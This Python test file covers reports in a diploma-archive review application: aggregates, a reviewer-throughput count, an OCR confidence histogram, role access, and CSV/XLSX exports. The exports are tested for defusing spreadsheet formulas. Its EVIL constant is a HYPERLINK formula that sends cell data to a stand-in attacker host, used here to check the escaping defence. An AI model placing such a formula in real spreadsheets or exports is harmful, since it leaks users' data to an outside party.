"""Reports on the real PostgreSQL: each aggregate on rows made here, the page with its charts and who may see
it, and CSV/XLSX exports whose formula-like cells are defused."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient

from muragat.settings import Settings
from review_ui import reports
from review_ui.exports import safe_cell, to_csv, to_xlsx
from storage.models import Document, DocumentStatus, Match, MatchDecision, Role
from storage.revisions import changes_by
from tests.review_ui.archive import db, make_diploma, make_graduate, set_decision
from tests.review_ui.conftest import make_user

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def rows(settings: Settings) -> dict[str, Any]:
    make_graduate(settings)  # specialist 2011, full_time, kk
    make_graduate(
        settings,
        graduate_id="G2",
        iin=None,
        diploma_number="2",
        degree="bachelor",
        graduation_year=2023,
        study_form="part_time",
        study_language="ru",
        institution="Satbayev University",
    )
    make_graduate(
        settings,
        graduate_id="G3",
        iin=None,
        diploma_number="3",
        degree="bachelor",
        graduation_year=2023,
        study_form="part_time",
        study_language=None,
    )
    # the institution read from the scan, from the matched graduate, and none at all
    read, _ = make_diploma(settings, fields={"institution": EVIL, "graduation_year": 1998}, confidence=0.05)
    _, matched = make_diploma(settings, "G2", decision=MatchDecision.auto_matched, fields={}, confidence=0.55)
    unsettled, pending = make_diploma(
        settings,
        "G3",
        decision=MatchDecision.needs_review,
        fields={},
        kind="ledger",
        status=DocumentStatus.needs_review,
        confidence=1.0,
    )
    make_user(settings, "reviewer-1", Role.reviewer)
    set_decision_as(settings, "reviewer-1", pending, MatchDecision.confirmed)
    set_decision_as(settings, "reviewer-1", matched, MatchDecision.rejected)
    edit_field_as(settings, "reviewer-1", read, "last_name", "Қалиева-Омарова")
    edit_field_as(settings, "system:worker", read, "first_name", "Шынар")  # not review
    set_decision(settings, pending, MatchDecision.needs_review)  # "test" has no account: not counted
    return {"read": read, "unsettled": unsettled}


def set_decision_as(settings: Settings, actor: str, match_id: Any, decision: MatchDecision) -> None:
    with db(settings) as session, changes_by(session, actor, "test"):
        session.get_one(Match, match_id).decision = decision


def edit_field_as(settings: Settings, actor: str, document_id: Any, name: str, value: Any) -> None:
    with db(settings) as session, changes_by(session, actor, "test"):
        doc = session.get_one(Document, document_id)
        doc.fields = {**doc.fields, name: value}


def report(settings: Settings, name: str) -> list[tuple[Any, ...]]:
    with db(settings) as session:
        return reports.REPORTS[name].rows(session)


def test_document_aggregates(settings: Settings, rows: dict[str, Any]) -> None:
    assert sorted(report(settings, "documents_by_status")) == [("needs_review", 1), ("processed", 2)]
    assert sorted(report(settings, "documents_by_kind")) == [("diploma", 2), ("ledger", 1)]
    # G2's match was rejected by the reviewer: it no longer lends its institution
    assert dict(report(settings, "documents_by_institution")) == {None: 2, EVIL: 1}
    assert report(settings, "documents_by_year") == [("1998", 1), (None, 2)]


def test_documents_by_matched_institution_and_year(settings: Settings) -> None:
    make_graduate(settings, graduate_id="G9", diploma_number="9", institution="КазНУ", graduation_year=2005)
    make_diploma(settings, "G9", fields={})
    assert report(settings, "documents_by_institution") == [("КазНУ", 1)]
    assert report(settings, "documents_by_year") == [("2005", 1)]


def test_graduate_aggregates(settings: Settings, rows: dict[str, Any]) -> None:
    assert sorted(report(settings, "graduates_by_study_form")) == [("full_time", 1), ("part_time", 2)]
    assert dict(report(settings, "graduates_by_study_language")) == {"kk": 1, "ru": 1, None: 1}
    assert report(settings, "graduates_by_degree_and_year") == [
        ("specialist", 2011, 1),
        ("bachelor", 2023, 2),
    ]


def test_reviewer_throughput_counts_people_only(settings: Settings, rows: dict[str, Any]) -> None:
    [(day, actor, decisions, edits)] = report(settings, "reviewer_throughput")
    assert actor == "reviewer-1" and decisions == 2 and edits == 1 and len(day) == 10


def test_ocr_confidence_histogram(settings: Settings, rows: dict[str, Any]) -> None:
    bins = report(settings, "ocr_confidence")
    assert len(bins) == 10 and bins[0] == ("0.0–0.1", 1) and bins[5] == ("0.5–0.6", 1)
    assert bins[9] == ("0.9–1.0", 1)  # a confidence of exactly 1.0 falls in the last bin
    assert sum(n for _, n in bins) == 3


def test_the_page_draws_charts_in_the_users_language(
    client_as: Callable[..., TestClient], rows: dict[str, Any]
) -> None:
    auditor = client_as(Role.auditor, "ru")
    page = auditor.get("/reports")
    assert page.status_code == 200
    assert page.text.count("<svg") == len(reports.REPORTS)
    assert "<script" not in page.text.split("<main>")[1]  # server-drawn; nothing loads at run time
    assert 'href="/api/v1/reports/documents_by_status.xlsx"' in page.text


@pytest.mark.parametrize("role", [Role.verifier, Role.reviewer, Role.archivist])
def test_reports_are_for_admins_and_auditors(client_as: Callable[[Role], TestClient], role: Role) -> None:
    other = client_as(role)
    assert other.get("/reports").status_code == 403
    assert other.get("/api/v1/reports/documents_by_status.csv").status_code == 403


def test_csv_export_defuses_formulas(client: TestClient, rows: dict[str, Any]) -> None:
    answer = client.get("/api/v1/reports/documents_by_institution.csv")
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert table[0] == ["institution", "documents"]
    assert ["'" + EVIL, "1"] in table


def test_xlsx_export_defuses_formulas(client: TestClient, rows: dict[str, Any]) -> None:
    answer = client.get("/api/v1/reports/documents_by_institution.xlsx")
    assert answer.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    evil = next(c for c in cells if isinstance(c.value, str) and EVIL in c.value)
    assert evil.value == "'" + EVIL and evil.data_type == "s"
    assert not any(c.data_type == "f" for c in cells)
    assert client.get("/api/v1/reports/nothing.csv").status_code == 404
    assert client.get("/api/v1/reports/documents_by_status.pdf").status_code == 422


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_safe_cell_prefixes_formula_starts(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert safe_cell("Алматы") == "Алматы" and safe_cell(-3) == -3 and safe_cell(None) is None
    assert to_csv(["a"], [[value]]).decode("utf-8-sig").splitlines()[1].lstrip('"').startswith("'")
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(["a"], [[value]]))).active
    assert sheet is not None and str(sheet["A2"].value).startswith("'")
